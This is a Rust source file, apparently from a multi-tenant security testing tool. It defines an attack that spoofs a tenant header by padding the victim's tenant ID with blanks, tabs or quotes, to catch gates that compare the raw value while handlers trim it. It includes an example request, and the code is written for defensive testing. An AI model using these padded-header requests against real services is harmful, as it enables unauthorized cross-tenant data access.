//! `header.tenant-padded`: a spoofed tenant header with a padded value.

use crate::attack::craft::with_header;
use crate::attack::names::tenant_headers;
use crate::attack::{Attack, Attempt, Ground, Scope};

/// A spoofed tenant header with a padded value.
pub(in crate::attack) struct TenantPadded;

/// A way to pad a value.
type Padding = fn(&str) -> String;

/// The paddings, likeliest first.
const PADDINGS: &[(&str, Padding)] = &[
    ("leading blanks", |v| format!("  {v}")),
    ("trailing blanks", |v| format!("{v}  ")),
    ("tab", |v| format!("\t{v}\t")),
    ("quotes", |v| format!("\"{v}\"")),
];

const DOC: &str = "\
## What it does
Sends the tenant header with blanks or a tab around the victim's value, and in quotes.

## Why teams fall for it
The gate compares the value as it came with the caller's own and, finding it unknown, takes it for no tenant at all; the
handler trims it and finds the victim (RL-46, RL-08).

## A correct target
Reads the header once, or not at all.

## Example
    GET /services
    Authorization: Bearer <own token>
    X-Tenant-Id:    <victim>
";

impl Attack for TenantPadded {
    fn id(&self) -> &'static str {
        "header.tenant-padded"
    }

    fn title(&self) -> &'static str {
        "a spoofed tenant header with a padded value"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Middleware
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        let Some((name, held)) = tenant_headers(ground.facts).into_iter().next() else {
            return Vec::new();
        };
        let base = ground.base();
        PADDINGS
            .iter()
            .take(ground.afford(PADDINGS.len()))
            .map(|(variant, pad)| {
                let padded = pad(held.of(ground.victim));
                base.clone()
                    .titled(variant)
                    .each(|call| with_header(call, &name, &padded))
                    .controlled(with_header(
                        ground.own_call.clone(),
                        &name,
                        held.of(ground.own),
                    ))
            })
            .collect()
    }
}
